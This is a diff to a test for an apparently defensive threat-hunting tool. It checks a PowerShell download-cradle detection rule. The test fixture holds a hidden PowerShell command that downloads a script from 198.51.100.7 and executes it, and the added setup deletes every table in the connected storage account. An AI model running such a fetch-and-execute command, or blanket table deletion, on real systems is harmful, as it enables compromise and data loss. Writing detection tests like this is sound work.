@@ -295,6 +295,9 @@ def test_run_once_survives_bad_rows_and_a_31_character_key(
     hunts = tmp_path / "hunts"
     hunts.mkdir()
     shutil.copy(REPO / "hunts" / "powershell-download-cradle-stager.yaml", hunts)
+    service = TableServiceClient.from_connection_string(storage_connection_string)
+    for table in service.list_tables():  # a fresh ledger: other tests ran this event too
+        service.delete_table(table.name)
     now = datetime(2026, 11, 30, 10, tzinfo=UTC)
     row = process_event(1, now - timedelta(minutes=20),
                         "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\"")
